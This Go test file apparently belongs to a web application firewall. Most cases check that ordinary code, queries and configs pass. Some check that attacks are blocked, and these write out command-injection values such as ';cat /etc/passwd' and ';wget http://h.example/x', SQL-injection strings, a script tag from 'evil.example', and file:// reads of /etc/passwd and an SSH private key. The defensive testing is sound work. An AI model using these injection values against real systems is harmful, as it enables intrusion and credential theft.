package engine

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/gabionhq/gabion/engine/rule"
)

// listings are texts that people write in applications for it: notebooks, SQL
// and flow editors, dashboards, wikis, forges and chats.
var listings = map[string]string{
	"notebook": `import pandas as pd
import subprocess, os

df = pd.read_csv('data/sales.csv')
out = subprocess.run(['git', 'log', '-1'], capture_output=True)
print(os.popen('nproc').read(), eval('2**10'))
df.query("region == 'EU' and total > 100").groupby('month').sum()
`,
	"notebook shell": `!pip install -q scikit-learn && python -m spacy download en
%%bash
ls -la data | head -n 3; wc -l data/*.csv
`,
	"query": `WITH big AS (SELECT customer_id, SUM(total) AS t FROM orders GROUP BY customer_id HAVING SUM(total) > 500)
SELECT c.name, b.t, CASE WHEN b.t > 1000 THEN 'gold' ELSE 'silver' END AS tier
FROM customers c JOIN big b ON b.customer_id = c.id
WHERE c.country IN ('DE', 'FR') AND c.name LIKE 'A%' AND NOT EXISTS (SELECT 1 FROM bans x WHERE x.id = c.id)
ORDER BY 2 DESC LIMIT 20;`,
	"statements": `BEGIN;
CREATE TABLE IF NOT EXISTS audit (id serial PRIMARY KEY, at timestamptz DEFAULT now(), what text);
INSERT INTO audit (what) VALUES ('it''s done'), ('second "row"');
UPDATE accounts SET balance = balance - 10 WHERE id = 7;
DELETE FROM sessions WHERE last_seen < now() - interval '30 days';
GRANT SELECT ON audit TO reporting;
COMMIT;`,
	"one statement":       `SELECT id, email FROM users WHERE created_at > '2024-01-01' ORDER BY id LIMIT 10`,
	"union":               "SELECT name, 'customer' AS kind FROM customers\nUNION ALL\nSELECT name, 'supplier' FROM suppliers\nORDER BY name;",
	"catalogue":           "SELECT table_name, pg_size_pretty(pg_total_relation_size(table_name::regclass))\nFROM information_schema.tables\nWHERE table_schema = 'public'\nORDER BY 2 DESC;",
	"dashboard statement": `SELECT $__timeGroup(created_at, '5m') AS time, count(*) FROM orders WHERE $__timeFilter(created_at) GROUP BY 1 ORDER BY 1`,
	"loose statement":     "SELECT usename FROM pg_user WHERE usename = 'app' OR 1=1;",
	"program":             "import os\nos.system('ls')\n",
	"rule of a filter":    `(?i)(union\s+select|<script|\.\./|etc/passwd)`,
	"mail template":       "<html><body><p>Hi {{#if name}}{{name}}{{/if}}</p><img src=\"{{img}}\" onerror=\"this.style.display='none'\"></body></html>",
	"handler of the page": "<div onclick=\"toggle()\">more</div>\n\n```mermaid\ngraph TD; A-->B\n```\n",
	"flow address":        "=http://localhost:8080/items/{{ $json.id }}?q={{ encodeURIComponent($json[\"name\"]) }}",
	"promql":              `histogram_quantile(0.99, sum by (le, job) (rate(http_request_duration_seconds_bucket{job=~"api|web", code!~"5.."}[5m]))) > 0.5 and on(job) up == 1`,
	"logql":               `{namespace="shop", app=~"cart.+"} |= "error" != "timeout" | json | latency > 500ms | line_format "{{.status}} {{.path}}"`,
	"influxql":            `SELECT mean("usage_idle") FROM "cpu" WHERE ("host" =~ /^$host$/) AND $timeFilter GROUP BY time($__interval), "cpu" fill(null)`,
	"flux":                "from(bucket: \"iot\")\n  |> range(start: -1h)\n  |> filter(fn: (r) => r._measurement == \"temp\" and r.room != \"lab\")\n  |> aggregateWindow(every: 5m, fn: mean)",
	"lucene":              `status:[400 TO 499] AND NOT user.name:(alice OR "bob smith") AND message:/time(d)? out/`,
	"kql":                 "requests\n| where timestamp > ago(1h) and success == false\n| summarize count() by bin(timestamp, 5m), resultCode\n| order by timestamp desc",
	"painless":            "def total = 0;\nfor (int i = 0; i < doc['goals'].length; ++i) {\n  total += doc['goals'][i];\n}\nreturn total > params.min;",
	"function node":       "const now = Date.now();\nmsg.payload = msg.payload.filter(x => x.at > now - 60000).map(x => `${x.name}: ${x.value}`);\nif (msg.payload.length === 0) { return null; }\nsetTimeout(() => node.status({text: 'ok'}), 1000);\nreturn msg;",
	"html template":       "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ title }}</title>\n<link rel=\"stylesheet\" href=\"/css/site.css\">\n<script src=\"/js/app.js\" defer></script>\n</head>\n<body onload=\"start()\">\n<form action=\"/search\" method=\"get\"><input name=\"q\"></form>\n<script>\nstart();\n</script>\n</body>\n</html>",
	"mustache":            "<h1>{{payload.title}}</h1>\n<ul>\n{{#items}}\n<li onclick=\"pick('{{id}}')\">{{name}} - {{{price}}}</li>\n{{/items}}\n</ul>",
	"helm":                "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include \"chart.fullname\" . }}\nspec:\n  replicas: {{ .Values.replicas | default 2 }}\n  {{- with .Values.nodeSelector }}\n  nodeSelector: {{ toYaml . | nindent 4 }}\n  {{- end }}",
	"ansible":             "- name: install\n  ansible.builtin.apt:\n    name: \"{{ item }}\"\n    state: present\n  loop: \"{{ packages | default([]) }}\"\n  when: ansible_os_family == 'Debian' and not skip_install | bool\n- shell: cat /etc/os-release | grep VERSION && systemctl restart nginx\n  become: true",
	"ci":                  "stages: [build, test]\nbuild:\n  image: golang:1.24\n  before_script:\n    - apt-get update && apt-get install -y git curl\n    - curl -fsSL https://get.example.com/tool.sh | bash\n  script:\n    - go build ./... && go test ./...\n    - 'if [ \"$CI_COMMIT_BRANCH\" = \"main\" ]; then ./deploy.sh; fi'",
	"actions":             "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          echo \"ref=${{ github.ref }}\" >> $GITHUB_OUTPUT\n          npm ci && npm run build -- --mode=ci\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}",
	"dockerfile":          "FROM node:22-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev && rm -rf /root/.npm\nCOPY . .\nHEALTHCHECK CMD wget -qO- http://localhost:8080/healthz || exit 1\nCMD [\"sh\", \"-c\", \"node server.js\"]",
	"compose":             "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: ${DB_PASS:-change-me}\n    volumes:\n      - ../data:/var/lib/postgresql/data\n    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready -U app || exit 1\"]",
	"makefile":            "build: clean\n\tgo build -o bin/app ./cmd/app && strip bin/app\n\nclean:\n\trm -rf bin; mkdir -p bin\n\nVERSION := $(shell git describe --tags)\n",
	"script":              "#!/bin/sh\nset -eu\nfor f in *.log; do\n  gzip -9 \"$f\" && mv \"$f.gz\" /backup/\ndone\nPIDS=$(pgrep -f worker)\nkill -HUP $PIDS; sleep 2\ncurl -s http://localhost:8080/reload | jq .status\n",
	"crontab":             "MAILTO=ops@example.com\n*/5 * * * * /usr/local/bin/sync.sh >/dev/null 2>&1\n0 3 * * 0 cd /srv/app && ./backup.sh | tee -a /var/log/backup.log\n",
	"cron line":           "0 3 * * 0 cd /srv/app && ./backup.sh >> backup.log 2>&1",
	"npm script":          "rimraf dist && tsc -p . && cp -r assets dist/ && echo done",
	"command":             "ffmpeg -i in.mp4 -vf scale=1280:-1 -c:v libx264 -crf 23 out.mp4 && rm in.mp4",
	"pipeline":            "cut -d: -f1 /etc/passwd | sort | uniq -c",
	"session":             "$ kubectl get pods -n shop | grep -v Running\n$ kubectl logs deploy/cart --tail=50 | grep -i error; echo $?\n$ ssh deploy@web1 'sudo systemctl restart cart'\n",
	"nginx":               "server {\n  listen 443 ssl;\n  location ~ \\.php$ { fastcgi_pass unix:/run/php/php-fpm.sock; }\n  location / { try_files $uri $uri/ /index.php?$args; }\n  add_header Content-Security-Policy \"script-src 'self'\";\n}",
	"terraform":           "resource \"aws_instance\" \"web\" {\n  ami = data.aws_ami.ubuntu.id\n  user_data = <<-EOF\n    #!/bin/bash\n    apt-get update && apt-get install -y nginx\n    echo \"${var.greeting}\" > /var/www/html/index.html\n  EOF\n}",
	"latex":               "\\documentclass{article}\n\\begin{document}\n\\section{Proof}\n$\\forall x \\in \\mathbb{R}: x^2 \\ge 0$; see \\cite{knuth}.\n\\input{../chapters/intro.tex}\n\\end{document}",
	"bibtex":              "@article{knuth84,\n  author = {Donald E. Knuth},\n  title = {Literate Programming},\n  journal = {The Computer Journal},\n  year = {1984}, pages = {97--111}\n}",
	"regex":               `^(?:(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?!$)|$)){4}$|^[\w.+-]+@[\w-]+\.[\w.]+$`,
	"diff":                "--- a/app.py\n+++ b/app.py\n@@ -1,4 +1,5 @@\n import os\n-os.system('rm -rf ' + path)\n+subprocess.run(['rm', '-rf', path], check=True)\n+# see ../../docs/safety.md\n return <div onClick={() => eval(x)}>\n",
	"python trace":        "Traceback (most recent call last):\n  File \"/srv/app/main.py\", line 10, in <module>\n    exec(compile(src, path, 'exec'))\n  File \"/usr/lib/python3/os.py\", line 7, in system\nOSError: [Errno 2] No such file or directory: '/etc/app.conf'",
	"java trace":          "java.lang.IllegalStateException: no session\n\tat org.hibernate.engine.Session.open(Session.java:42)\n\tat org.springframework.web.Dispatcher.run(Dispatcher.java:7)\nCaused by: java.io.IOException: closed\n\t... 12 more",
	"csv":                 "id;name;note\n1;O'Neil;\"said \"\"hi\"\"; left\"\n2;=SUM(A1:A2);<none>\n3;Smith & Sons;select one\n",
	"php":                 "<?php\n$stmt = $db->prepare('SELECT * FROM t WHERE id = ?');\n$stmt->execute([$_GET['id']]);\nforeach ($stmt as $row) {\n    echo htmlspecialchars($row['name']), shell_exec('uptime');\n}\n",
	"java":                "public class Main {\n    public static void main(String[] a) throws Exception {\n        Runtime rt = Runtime.getRuntime();\n        System.out.println(rt.totalMemory());\n        Class.forName(\"org.postgresql.Driver\");\n    }\n}\n",
	"javascript":          "document.querySelectorAll('a').forEach(a => {\n  a.onclick = () => { location.href = a.dataset.url; };\n});\nfetch('/api/items').then(r => r.json()).then(show);\nsetTimeout(() => alert('Done: ' + n), 100);\n",
	"jinja":               "{% extends 'base.html' %}\n{% block body %}\n{% for u in users if u.active %}\n<li>{{ u.name|title }} {{ loop.index }}</li>\n{% else %}\n<li>nobody</li>\n{% endfor %}\n{% endblock %}",
	"erb":                 "<h1><%= @post.title %></h1>\n<% @post.comments.each do |c| %>\n  <p><%= c.body %></p>\n<% end %>\n",
	"go template":         "{{ range $i, $a := .Alerts }}{{ if $i }}, {{ end }}{{ $a.Labels.alertname }}: {{ $a.Annotations.summary | toUpper }}{{ end }}",
	"markdown":            "# Setup\n\nRun `npm install && npm start`, then open <http://localhost:3000>.\n\n```sh\ncurl -fsSL https://example.com/install.sh | sudo bash\ncat /etc/os-release; uname -a\n```\n\n```html\n<script src=\"https://cdn.example.com/x.js\"></script>\n<body onload=\"init()\">\n```\n\n| flag | meaning |\n|---|---|\n| `-x` | exec |\n",
	"wiki":                "====== Backup ======\n\n<code bash>\ntar czf - /etc/nginx | ssh backup@nas 'cat > nginx.tgz'\n</code>\n\nSee [[start|home]] and //italics//, ''mono'', {{image.png?200}}.\n",
	"post":                "<h2>How to</h2>\n<p>Don't use <code>rm -rf /tmp/x; ls</code>.</p>\n<pre>&lt;script&gt;\nnew Chart(document.getElementById('c'));\n&lt;/script&gt;</pre>\n<p><a href=\"https://example.com/?a=1&amp;b=2\">more</a> <img src=\"/a.png\" alt=\"x\"></p>",
	"chat":                "lol someone tried quotes and union select on our login again, and alert(1) in the name field. I told them we're fine since the rewrite; ask ops",
	"question":            "How do I select all rows where the union of two groups is empty? My query says \"group by\" isn't allowed; what's wrong?",
	"security report":     "We found that the search page reflects input. Steps:\n\n1. Open the page\n2. Type a quote (') and see the error near 'LIMIT 10'\n3. The stack trace shows /srv/app/search.rb\n\nSeverity: medium. Please don't share before the fix.",
	"graph query":         "query Items($first: Int!) { items(first: $first, where: {price: {_gt: 10}, name: {_like: \"%a%\"}}) { id name } }",
	"xpath config":        "//book[@lang='en' and price>10]/title/text()",
	"jq":                  ".items[] | select(.status == \"open\") | {id, name: (.user.name // \"nobody\")}",
	"expression":          "={{ $json.items.filter(i => i.qty > 0).length > 3 ? 'many' : 'few' }}",
	"formula":             `=IF(AND(A1>0, B1<>""), CONCATENATE(A1, " - ", B1), "n/a")`,
	"css":                 ".card { background: url('/img/bg.png') no-repeat; }\n@media (max-width: 600px) { .card { display: none; } }\n@import url('theme.css');\n",
	"svg":                 "<svg width=\"24\" height=\"24\" viewBox=\"0 0 24 24\" xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h24v24H0z\" fill=\"none\"/></svg>",
	"embed":               "<p>Talk:</p>\n<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/abc\" title=\"Talk\" allowfullscreen></iframe>",
	"ini":                 "[mysqld]\ndatadir = /var/lib/mysql\nlog_error = /var/log/mysql/error.log\nsql_mode = \"STRICT_TRANS_TABLES\"\n; skip-networking\n",
	"env":                 "DB_URL=postgres://app:s3cret@db:5432/app?sslmode=disable\nPATH=/usr/local/bin:$PATH\nNODE_OPTIONS=\"--max-old-space-size=4096\"\n",
	"apostrophes":         "It's great; I'd buy it again & who'd not, but the cable's too short | I'd say",
	"message":             "If %1 is selected, the file %2 is not used",
	"list of words":       "casino\nviagra\n<script\nunion select\nbuy now!!!",
	"lua":                 "redis.call('set', KEYS[1], ARGV[1])\nlocal n = tonumber(redis.call('incr', KEYS[2]))\nif n > 10 then return redis.error_reply('limit') end\nreturn n",
	"powershell":          "Get-ChildItem C:\\Temp -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length | Select-Object -First 5\nGet-Service | Where-Object Status -eq 'Stopped' | Out-File report.txt",
	"batch":               "@echo off\nfor %%f in (*.txt) do copy %%f D:\\backup\nif exist out.log del out.log\ndir C:\\ > list.txt\n",
	"mongo":               "db.orders.aggregate([\n  { $match: { status: { $in: ['open', 'paid'] } } },\n  { $group: { _id: '$customer', total: { $sum: '$amount' } } },\n  { $sort: { total: -1 } }\n])",
	"ldif":                "dn: cn=Ann Lee,ou=people,dc=example,dc=com\nobjectClass: inetOrgPerson\ncn: Ann Lee\nmail: ann@example.com\n",
	"email":               "From: ann@example.com\nTo: bob@example.com\nSubject: Re: lunch\n\nHi Bob,\n\nsee you at 12; I'd select the corner table.\n\n> and who pays?\n",
}

// TestListings sends what people write where applications take it.
func TestListings(t *testing.T) {
	e := New(Options{})
	for name, v := range listings {
		cell := strings.SplitAfter(v, "\n")
		lines, _ := json.Marshal(map[string]any{"cells": []any{map[string]any{"cell_type": "code", "source": cell}}})
		variables, _ := json.Marshal(map[string]any{"query": "mutation($b: String!) { save(body: $b) { id } }", "variables": map[string]string{"b": v}})
		places := documents(v)
		if len(cell) > 1 {
			places["lines"] = post("application/json", string(lines))
		}
		places["variables"] = post("application/json", string(variables))
		places["element"] = post("text/xml", `<?xml version="1.0"?><methodCall><params><param><value><string>`+escapedText(v)+`</string></value></param></params></methodCall>`)
		for place, r := range places {
			expect(t, e, &r, Pass, name+" as "+place)
		}
	}
}

// searches are what clients of query languages put into addresses.
var searches = []string{
	`sum by(le)(rate(x_bucket{job="a",le!="+Inf"}[5m])) or vector(0)`, `{app="web"} |= "error" != "ping" | json | status >= 500`,
	`SELECT mean("v") FROM "cpu" WHERE time > now() - 1h GROUP BY time(1m), "host" fill(null)`, `SHOW TAG VALUES FROM "cpu" WITH KEY = "host" WHERE "region" =~ /eu.*/`,
	`SHOW SERIES FROM "cpu" WHERE "host" = 'a'`,
	`project = X AND (status = Open OR assignee in (currentUser())) AND summary ~ "o'x" ORDER BY created DESC`,
	`space = DEV and (title ~ "select" or text ~ "union") order by lastmodified desc`, `Price gt 10 and contains(Name,'O''Neil') or not (Id eq 5)`,
	`SELECT Id, Name FROM Account WHERE Name LIKE 'A%' AND (Type = 'x' OR Type = null) ORDER BY Name LIMIT 10`, `name=='a*';price>10,(x=in=(1,2))`,
	`resource.type="vm" AND severity>=ERROR AND NOT textPayload:"health" OR timestamp>="2026-01-01T00:00:00Z"`, `{"_or":[{"name":{"_contains":"<b>"}},{"price":{"_gt":10}}]}`,
	`id,name,posts.limit(5){message,comments.summary(true)}`, `how to use <code>fetch</code>`, `ps aux | grep java`, `git rebase -i && git push -f`,
	`What does "group by" mean?`, `is it "drop table" or 'truncate'?`,
}

// TestSearches sends them as parameters.
func TestSearches(t *testing.T) {
	e := New(Options{})
	for _, v := range searches {
		r := request{method: "GET", target: "/search?q=" + url.QueryEscape(v) + "&page=1"}
		expect(t, e, &r, Pass, v)
	}
}

// TestEditors sends the addresses of files that editors and their servers
// work on, in the names their protocols give them.
func TestEditors(t *testing.T) {
	e := New(Options{})
	for _, body := range []string{
		`{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"file:///home/ann/project/src/main.rs"}}`,
		`{"jsonrpc":"2.0","id":1,"method":"textDocument/didOpen","params":{"textDocument":{"uri":"file:///work/app.py","languageId":"python","version":1,"text":"x = 1\n"}}}`,
	} {
		r := post("application/json", body)
		if verdict, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); verdict.Decision != Pass {
			t.Errorf("%s: blocked: %+v", body, rep.Findings)
		}
	}
	for _, body := range []string{
		`{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"file:///etc/passwd"}}`, `{"url":"file:///srv/app/x.py"}`,
		`{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"file:///home/ann/.ssh/id_rsa"}}`,
	} {
		r := post("application/json", body)
		if verdict, _ := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); verdict.Decision != Block {
			t.Errorf("%s: passes", body)
		}
	}
}

var escapedText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace

// TestStoredScripts puts scripts for pages where they are stored, and attacks
// under the same type.
func TestStoredScripts(t *testing.T) {
	e := New(Options{})
	script := "/* widgets */" + strings.Repeat("function a(b){return b||!isFinite(b)||Math.floor(b)!==b||b<0}", 20) +
		"const n=[$[0],$[1]||$[0]];x={attach:ws,resize:ws}[e]||ps;m(`missing`,`set`,`use`);"
	f := func(kind, body string, want Decision) {
		t.Helper()
		r := request{method: "PUT", target: "/assets/app.min.js", fields: []string{"Content-Type", kind}, body: body}
		expect(t, e, &r, want, kind+" "+body[:min(len(body), 40)])
	}
	f("text/javascript; charset=utf-8", script, Pass)
	f("application/javascript", script, Pass)
	f("application/javascript", ";cat /etc/passwd", Block)
	f("application/javascript", `{"id":"1' or '1'='1"}`, Block)
	f("application/javascript", script+"<script src=//evil.example></script>", Block)
}

// TestArguments sends command lines and settings in strings of JSON.
func TestArguments(t *testing.T) {
	e := New(Options{})
	f := func(arg string, want Decision) {
		t.Helper()
		body, _ := json.Marshal(map[string]any{"args": []string{arg}})
		r := post("application/json", string(body))
		expect(t, e, &r, want, arg)
	}
	f("--config=/etc/adapter/config.yaml", Pass)
	f("LANG=de&TZ=UTC", Pass)
	f("file=/etc/passwd", Block)
	f("id=1' or '1'='1", Block)
	f("cmd=;wget http://h.example/x", Block)
}
